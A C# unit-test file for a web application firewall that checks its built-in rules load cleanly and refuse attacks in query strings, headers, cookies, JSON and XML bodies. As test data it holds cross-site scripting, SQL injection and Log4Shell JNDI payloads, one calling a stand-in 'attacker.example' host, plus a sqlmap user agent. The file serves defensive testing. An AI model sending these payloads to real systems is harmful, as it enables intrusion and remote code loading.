using System.Text;
using Portcullis.Waf.Engine;

namespace Portcullis.Waf.Tests.Builtin;

public sealed class BuiltinRulesTests
{
    private static readonly Lazy<RuleSetResult> Loaded = new(() => RuleSet.Load([RuleSet.Builtin], Repository.Root));

    private static RuleSet Rules => Loaded.Value.RuleSet!;

    [Fact]
    public void The_rules_load_without_errors_and_notes()
    {
        Assert.Empty(Loaded.Value.Errors);
        Assert.Empty(Loaded.Value.Notes);
    }

    [Fact]
    public void Ids_are_within_the_range_of_the_built_in_rules() => Assert.All(Rules.Plan.Rules, rule => Assert.InRange(rule.Id, 200001, 249999));

    [Fact]
    public void Every_rule_that_scores_says_what_it_found_and_its_level()
        => Assert.All(Rules.Plan.Rules.Where(rule => rule.Tags.Length > 0 && !rule.Tags.Contains("anomaly-evaluation")), rule =>
        {
            Assert.NotNull(rule.Message);
            Assert.Contains(rule.Tags, tag => tag.StartsWith("paranoia-level/", StringComparison.Ordinal));
            Assert.Contains(rule.Tags, tag => tag.StartsWith("attack-", StringComparison.Ordinal) || tag == "data-leak");
        });

    [Theory]
    [InlineData("query")]
    [InlineData("name")]
    [InlineData("form")]
    [InlineData("json")]
    [InlineData("xml")]
    [InlineData("multipart")]
    [InlineData("text")]
    [InlineData("cookie")]
    [InlineData("path")]
    [InlineData("header:User-Agent")]
    [InlineData("header:Referer")]
    [InlineData("header:X-Forwarded-For")]
    [InlineData("header:X-Forwarded-Host")]
    [InlineData("header:X-Anything")]
    public void Every_place_of_a_request_is_inspected(string target)
    {
        Assert.True(IsRefused(target, "<script>alert(1)</script>"));
        Assert.True(IsRefused(target, "${jndi:ldap://attacker.example/a}"));
        Assert.True(IsRefused(target, "1' union select null,version()-- -"));
        Assert.False(IsRefused(target, "just a word"));
    }

    [Theory]
    [InlineData("{\"a\":{\"b\":[\"x\",{\"c\":\"<script>alert(1)</script>\"}]}}")]
    [InlineData("{\"<script>alert(1)</script>\":1}")]
    [InlineData("{\"a\":\"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"}")]
    [InlineData("[\"<script>alert(1)</script>\"]")]
    [InlineData("\"<script>alert(1)</script>\"")]
    public void Names_and_values_of_json_are_inspected_however_deep(string body) => Assert.True(IsRefused("jsonbody", body));

    [Theory]
    [InlineData("<a><b><c>&lt;script>alert(1)&lt;/script></c></b></a>")]
    [InlineData("<a x=\"&lt;script>alert(1)&lt;/script>\"/>")]
    [InlineData("<a><![CDATA[<script>alert(1)</script>]]></a>")]
    public void Text_and_attributes_of_xml_are_inspected(string body) => Assert.True(IsRefused("xmlbody", body));

    [Fact]
    public void What_the_headers_show_is_refused_before_the_body_is_read()
    {
        using var transaction = Rules.Begin(Rules.Prepare(new InspectionOptions(), out _)!);
        transaction.RequestLine("POST"u8, "/"u8, "HTTP/1.1"u8);
        transaction.RequestHeader("Host"u8, "www.example.com"u8);
        transaction.RequestHeader("User-Agent"u8, "sqlmap/1.8"u8);
        var interruption = transaction.ProcessRequestHeaders();
        Assert.Equal((InterruptionKind.Deny, 403), (interruption!.Kind, interruption.Status));
    }

    [Fact]
    public void The_score_is_reported_and_the_threshold_is_the_place_s()
    {
        var line = new CorpusLine("", "query", Encoding.ASCII.GetBytes("<script>alert(1)</script>"), "");
        Assert.True(CorpusRequest.Send(Rules, Rules.Prepare(new InspectionOptions(), out _)!, line).IsRefused);
        Assert.False(CorpusRequest.Send(Rules, Rules.Prepare(new InspectionOptions { InboundThreshold = 1000 }, out _)!, line).IsRefused);
    }

    [Fact]
    public void A_tag_excludes_a_topic_for_one_argument()
    {
        var settings = Rules.Prepare(new InspectionOptions { Exclusions = [new RuleExclusion("attack-xss", "ARGS:q")] }, out var errors)!;
        Assert.Empty(errors);
        var payload = "<b onclick=x>text</b>";
        Assert.True(IsRefused("query", payload));
        Assert.False(CorpusRequest.Send(Rules, settings, new CorpusLine("", "query", Encoding.ASCII.GetBytes(payload), "")).IsRefused);
    }

    private static bool IsRefused(string target, string payload)
        => CorpusRequest.Send(Rules, Rules.Prepare(new InspectionOptions(), out _)!, new CorpusLine("", target, Encoding.UTF8.GetBytes(payload), "")).IsRefused;
}
